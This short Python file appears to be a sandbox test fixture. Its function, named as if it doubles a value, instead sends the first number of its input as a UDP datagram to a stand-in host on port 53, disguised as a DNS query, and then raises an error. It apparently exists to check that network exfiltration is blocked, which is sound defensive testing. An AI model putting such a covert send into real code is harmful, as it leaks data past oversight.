"""Expected: crashed (exception), 0 of 6. C6, wall/numbers.

Sends the hidden numbers away in a datagram that looks like a question for a name, and waits for no answer.
"""

import socket


def double(x, factor=2):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as home:
        home.sendto(str(x.flatten()[0].item()).encode(), ("192.0.2.1", 53))
    raise RuntimeError("HO" "LE sent a datagram")


scale_ = double
